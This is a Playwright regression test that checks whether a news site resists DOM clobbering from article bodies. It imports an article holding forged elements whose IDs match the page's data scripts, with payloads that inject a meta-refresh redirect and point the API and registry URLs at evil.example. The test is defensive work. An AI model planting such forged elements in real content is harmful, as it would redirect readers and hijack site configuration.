import { execFileSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { e2eRoot, repoRoot } from '../../fixtures/env';
import { Site } from '../../pages/site';

// The audit's finding (an article body standing in for the page's own data): a body holding
// `<p id="first-paint">{…}</p>` came before the real script, `getElementById` found it first, and the JSON in it
// drew the page with a `<meta http-equiv=refresh>` that sent every reader to another site. Here it is again, as
// an article file with the payload (for each of the page's three data elements) imported by the CLI.

const alias = 'clobber-regression-check';
const forged = (id: string, json: unknown) => `<p id="${id}">${JSON.stringify(json).replace(/</g, '&lt;')}</p>`;
const hostile = {
  remote: 'news',
  url: `/insights/${alias}`,
  data: { [`article:${alias}`]: { content: ['<meta http-equiv="refresh" content="0;url=https://evil.example/">'] } },
};
const body = [
  '<p>A regression check for page data held in article bodies.</p>',
  forged('first-paint', hostile),
  forged('runtime-config', { apiBase: 'https://evil.example', registryUrl: 'https://evil.example/remotes.json' }),
  forged('remote-routes', { evil: [{ path: '/', title: 'Hijacked' }] }),
  '<h2 id="further">Further reading</h2><p><a href="#further">Back to further reading</a></p>',
].join('');

test.beforeAll(() => {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'clobber-'));
  writeFileSync(
    path.join(dir, `${alias}.html`),
    [
      '---',
      'title: Clobber regression check',
      'category: Hot Topics',
      'published: 2016-06-01',
      'image: business-rates.svg',
      'imageAlt: A shopfront with a striped awning beside a large pound sign',
      'caption: A regression check.',
      'text: A regression check.',
      '---',
      body,
    ].join('\n'),
  );
  execFileSync(process.execPath, ['api/dist/cli.js', 'import-articles', '--dir', dir], {
    cwd: repoRoot,
    env: { ...process.env, SQLITE_FILE: path.join(e2eRoot, 'e2e.sqlite'), DATABASE_URL: '', LOG_LEVEL: 'warn' },
  });
  rmSync(dir, { recursive: true, force: true });
});

test('an article body named like the page’s data neither replaces it nor sends the reader away', async ({ page }) => {
  const leaving: string[] = [];
  page.on('framenavigated', (frame) => frame === page.mainFrame() && !frame.url().includes(`/insights/${alias}`) && leaving.push(frame.url()));
  const site = new Site(page);
  await site.open(`/insights/${alias}`);
  await expect(site.heading()).toHaveText('Clobber regression check');
  await site.remoteReady('news');
  // Long enough for a refresh of 0 s, or a hydration from forged data, to have happened.
  await page.waitForTimeout(1500);
  expect(leaving).toEqual([]);
  expect(new URL(page.url()).pathname).toBe(`/insights/${alias}`);

  // The page's own data elements are the site server's scripts, and only they carry those names.
  for (const id of ['first-paint', 'runtime-config', 'remote-routes']) {
    expect(await page.locator(`[id="${id}"]`).evaluateAll((nodes) => nodes.map((node) => node.tagName))).toEqual(['SCRIPT']);
  }
  expect(await page.locator('meta[http-equiv]').count()).toBe(0);
  const article = page.locator('.news-article__body');
  await expect(article.getByText('A regression check for page data held in article bodies.')).toBeVisible();
  // The author's own anchors still work, under the content prefix.
  await expect(article.locator('#user-content-further')).toHaveText('Further reading');
  await expect(article.getByRole('link', { name: 'Back to further reading' })).toHaveAttribute('href', '#user-content-further');
  // The forged route table did not mount anything: the header still leads home.
  await expect(site.header()).toBeVisible();
});
